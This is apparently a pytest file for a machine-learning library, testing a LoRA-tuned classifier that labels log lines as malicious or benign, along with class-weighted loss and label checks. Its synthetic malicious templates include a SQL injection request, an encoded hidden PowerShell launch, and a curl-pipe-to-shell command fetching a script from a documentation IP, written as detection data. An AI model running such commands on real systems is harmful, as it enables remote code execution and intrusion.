"""The classifier objective (data.classify, train/classifier.py): a LoRA-tuned threat classifier on malicious vs
benign log lines beats the zero-shot score of the same base, its val metrics land in metrics.jsonl and
summary.json and equal `eval classify` on the finished run; class weights scale the loss as documented; bad
labelled sets stop with one line."""

from __future__ import annotations

import json
import random

import pytest
import torch
import torch.nn.functional as F
from conftest import write_jsonl

from megalang.config import RunConfig, load_config
from megalang.errors import UserError
from megalang.evaluate.classify import evaluate_classify
from megalang.train.classifier import weighted_loss
from megalang.train.classifier_data import class_weights
from megalang.train.trainer import train

MALICIOUS = ["sshd[{p}]: Failed password for root from 203.0.113.{n} port {port} ssh2",
             "GET /login.php?id=1' UNION SELECT password FROM users-- HTTP/1.1 403 from 198.51.100.{n}",
             "powershell.exe -nop -w hidden -enc SQBFAFgA{n} spawned by winword.exe",
             "bash -c 'curl -s http://203.0.113.{n}/x.sh | sh' run by www-data"]
BENIGN = ["sshd[{p}]: Accepted publickey for deploy from 192.0.2.{n} port {port} ssh2",
          "GET /static/app.css HTTP/1.1 200 from 192.0.2.{n}",
          "CRON[{p}]: (root) CMD (run-parts /etc/cron.hourly)",
          "user alice@example.com signed in from 192.0.2.{n}"]
VERBALIZER = "benign=benign,malicious=malicious"


def log_lines(path, n: int, seed: int, malicious_share: float = 0.3):
    """An imbalanced labelled set of log lines (documentation IP ranges, example.com)."""
    r = random.Random(seed)
    rows = []
    for _ in range(n):
        bad = r.random() < malicious_share
        text = r.choice(MALICIOUS if bad else BENIGN).format(p=r.randint(100, 9999), n=r.randint(1, 254),
                                                             port=r.randint(1024, 65535))
        rows.append({"text": text, "label": "malicious" if bad else "benign"})
    return write_jsonl(path, rows)


def config(tiny_pretrained, tmp_path, train_file, val_file=None, *extra):
    return load_config(RunConfig, None, [
        f"model.pretrained={tiny_pretrained}", f"data.classify={train_file}", f"run.dir={tmp_path / 'run'}",
        *([f"data.classify_val={val_file}"] if val_file else []),
        "train.seq_len=64", "train.micro_batch_size=8", "optimizer.lr=1e-2", "optimizer.weight_decay=0",
        "schedule.warmup_steps=0", "schedule.min_lr=1e-3", "checkpoint.every=0", "metrics.report=false",
        "train.progress=false", *extra,
    ])


def test_lora_classifier_beats_zero_shot_and_logs_val_metrics(tiny_pretrained, tmp_path):
    train_file, val_file = log_lines(tmp_path / "train.jsonl", 64, 1), log_lines(tmp_path / "val.jsonl", 40, 2)
    zero_shot = evaluate_classify(str(tiny_pretrained), str(val_file), VERBALIZER)
    cfg = config(tiny_pretrained, tmp_path, train_file, val_file, "train.max_steps=12", "train.eval_every=6",
                 "train.log_every=3", "lora.rank=8", "lora.dropout=0", "data.class_weights=auto",
                 f"data.labels={VERBALIZER}")
    summary = train(cfg)

    records = [json.loads(line) for line in (tmp_path / "run" / "metrics.jsonl").read_text().splitlines()]
    evaluated = [r for r in records if "val_accuracy" in r]
    assert [r["step"] for r in evaluated] == [6, 12]
    assert all(set(r) >= {"val_loss", "val_accuracy", "val_macro_f1"} for r in evaluated)
    assert summary["val_accuracy"] == evaluated[-1]["val_accuracy"]
    assert summary["val_macro_f1"] == evaluated[-1]["val_macro_f1"]
    assert summary["trainable_fraction"] < 0.5  # LoRA: the base stayed frozen
    assert summary["classify"]["class_weights"]["malicious"] > summary["classify"]["class_weights"]["benign"]

    assert zero_shot["macro_f1"] < 0.6  # the untrained base is at chance on this set
    assert summary["val_macro_f1"] >= 0.9 and summary["val_macro_f1"] > zero_shot["macro_f1"] + 0.3
    # The run is a plain causal LM: `eval classify` on it scores the val set exactly as training's val metrics did.
    after = evaluate_classify(str(tmp_path / "run"), str(val_file), VERBALIZER)
    assert after["accuracy"] == summary["val_accuracy"] and after["macro_f1"] == pytest.approx(summary["val_macro_f1"])


def test_full_finetune_classifier_trains_every_parameter(tiny_pretrained, tmp_path):
    train_file = log_lines(tmp_path / "train.jsonl", 16, 3)
    summary = train(config(tiny_pretrained, tmp_path, train_file, None, "train.max_steps=3", "train.log_every=1",
                           "data.class_weights={benign: 1.0, malicious: 2.5}"))
    assert summary["trainable_fraction"] == 1.0
    assert summary["classify"]["class_weights"] == {"benign": 1.0, "malicious": 2.5}
    assert summary["train_loss_last"] < summary["train_loss_first"]
    assert summary["val_loss"] is None and "val_accuracy" not in summary  # no data.classify_val: no val metrics


def test_class_weights_scale_each_example_loss():
    scores = torch.tensor([[-0.2, -1.9], [-2.5, -0.1], [-0.7, -0.8]])
    target = torch.tensor([0, 1, 1])
    nll = -F.log_softmax(scores, dim=-1)[torch.arange(3), target]
    weight = torch.tensor([1.0, 3.0])
    expected = (1.0 * nll[0] + 3.0 * nll[1] + 3.0 * nll[2]) / (1.0 + 3.0 + 3.0)
    assert weighted_loss(scores, target, weight).item() == pytest.approx(expected.item(), rel=1e-6)
    assert weighted_loss(scores, target, torch.ones(2)).item() == pytest.approx(nll.mean().item(), rel=1e-6)
    assert weighted_loss(scores, target, weight).item() != pytest.approx(nll.mean().item(), rel=1e-3)
    # auto: n / (labels × count), scikit-learn's 'balanced'; explicit weights in verbaliser order
    assert class_weights("auto", {"benign": 30, "malicious": 10}) == [40 / 60, 40 / 20]
    assert class_weights("none", {"benign": 30, "malicious": 10}) == [1.0, 1.0]
    assert class_weights("malicious=3,benign=1", {"benign": 30, "malicious": 10}) == [1.0, 3.0]
    with pytest.raises(UserError, match="no weight for malicious"):
        class_weights({"benign": 1.0}, {"benign": 30, "malicious": 10})


@pytest.mark.parametrize("rows, labels, message", [
    ([{"text": "a", "label": "benign"}, {"text": "b", "label": "suspicious"}], VERBALIZER,
     r"train.jsonl:2: label 'suspicious' is not in data.labels \(benign, malicious\)"),
    ([{"text": "a", "label": "benign"}, {"text": "b", "label": "benign"}], VERBALIZER,
     r"no examples of label\(s\) 'malicious' of data.labels"),
    ([{"text": "a", "label": "benign"}], None, r"only one label \(benign\) in the data"),
])
def test_bad_labelled_sets_stop_with_one_line(tiny_pretrained, tmp_path, rows, labels, message):
    from typer.testing import CliRunner

    from megalang.cli import app

    train_file = write_jsonl(tmp_path / "train.jsonl", rows)
    with pytest.raises(UserError, match=message):
        train(config(tiny_pretrained, tmp_path, train_file, None, *([f"data.labels={labels}"] if labels else [])))
    assert not (tmp_path / "run").exists()
    result = CliRunner().invoke(app, ["train", f"model.pretrained={tiny_pretrained}", f"data.classify={train_file}",
                                      f"run.dir={tmp_path / 'run'}", *([f"data.labels={labels}"] if labels else [])])
    lines = [line for line in result.output.splitlines() if line.strip()]
    assert result.exit_code == 2 and len(lines) == 1 and "label" in lines[0]
